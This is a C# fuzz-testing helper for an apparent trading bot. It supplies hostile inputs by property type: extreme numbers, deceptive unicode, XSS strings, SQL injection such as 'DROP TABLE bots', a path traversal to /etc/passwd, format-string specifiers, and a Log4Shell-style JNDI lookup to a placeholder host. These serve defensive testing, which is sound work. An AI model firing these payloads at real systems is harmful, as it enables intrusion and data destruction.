using System.Collections;

namespace TradeBot.Tests.Security;

/// <summary>
/// The values every fuzz test throws at inputs: huge and tiny numbers, NaN and infinities, negatives, empty and
/// whitespace text, a 1 MB string, unicode that fools the eye (RTL override, zero-width, emoji, combining marks, a lone
/// surrogate), markup, SQL quotes and null bytes. <see cref="For"/> gives them by property type, so a new field of an
/// input model is fuzzed as soon as it exists (or the test fails and asks for values).
/// </summary>
public static class HostileInput
{
    public static readonly string Megabyte = new('x', 1 << 20);

    public static readonly string?[] Text =
    [
        null, "", "   ", "\t\r\n", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'; DROP TABLE bots;--",
        "Robert'); DELETE FROM api_keys;--", "🚀💥", "ＢＴＣＵＳＤＴ", "\0", "BTC\0USDT", "\u0001\u202e", "\u202eTDSUCTB", "BTC\u200bUSDT",
        "e\u0301\u0301\u0301\u0301", "\ud800", Megabyte, new string('x', 100_000), "btcusdt", "BTC USDT", "1h\n", "../../etc/passwd",
        "%s%n%x", "${jndi:ldap://evil/x}",
    ];

    public static readonly double[] Doubles =
    [
        double.NaN, double.PositiveInfinity, double.NegativeInfinity, -1, -0.0, 0, 1e308, double.MaxValue, double.MinValue,
        double.Epsilon, 1e-320, 4.9e-324,
    ];

    public static readonly int[] Integers = [int.MinValue, -1, 0, 4, int.MaxValue];

    public static readonly long[] Longs = [long.MinValue, -1, 0, long.MaxValue];

    public static readonly decimal[] Decimals = [decimal.MinValue, -1m, 0m, 0.0000000000000000000000000001m, decimal.MaxValue];

    public static readonly DateOnly[] Days = [DateOnly.MinValue, new(1970, 1, 1), new(2009, 12, 31), DateOnly.MaxValue];

    /// <summary>Hostile values of <paramref name="type"/>; throws for a type without any, so new fields get some.</summary>
    public static IReadOnlyList<object?> For(Type type)
    {
        var nullable = Nullable.GetUnderlyingType(type);
        if (nullable is not null)
            return [null, .. For(nullable)];
        if (type == typeof(string))
            return Text;
        if (type == typeof(double))
            return [.. Doubles.Cast<object?>()];
        if (type == typeof(int))
            return [.. Integers.Cast<object?>()];
        if (type == typeof(long))
            return [.. Longs.Cast<object?>()];
        if (type == typeof(decimal))
            return [.. Decimals.Cast<object?>()];
        if (type == typeof(DateOnly))
            return [.. Days.Cast<object?>()];
        if (type == typeof(bool))
            return [true, false];
        if (type.IsEnum)
            return [.. Enum.GetValues(type).Cast<object?>(), Enum.ToObject(type, 4242), Enum.ToObject(type, -1)];
        if (type == typeof(Dictionary<string, double>))
        {
            return
            [
                null, new Dictionary<string, double> { ["emaFast"] = double.NaN }, new Dictionary<string, double> { ["<script>"] = 1 },
                new Dictionary<string, double> { ["emaFast"] = -5 }, new Dictionary<string, double> { ["emaSlow"] = 1e300 },
                Enumerable.Range(0, 1000).ToDictionary(i => $"p{i}", i => (double)i),
                new Dictionary<string, double> { [new string('k', 10_000)] = double.PositiveInfinity },
                new Dictionary<string, double> { ["'; DROP TABLE bots;--"] = 1, ["emaFast\0"] = 9 },
            ];
        }
        throw new InvalidOperationException($"No hostile values for {type}; add them so the new field is fuzzed too.");
    }

    /// <summary>A short description of <paramref name="value"/> for assertion messages.</summary>
    public static string Describe(object? value) => value switch
    {
        null => "null",
        string { Length: > 40 } s => $"string of {s.Length}",
        string s => $"\"{s.Replace("\0", "\\0", StringComparison.Ordinal)}\"",
        ICollection c => $"{value.GetType().Name} of {c.Count}",
        _ => value.ToString() ?? "",
    };
}
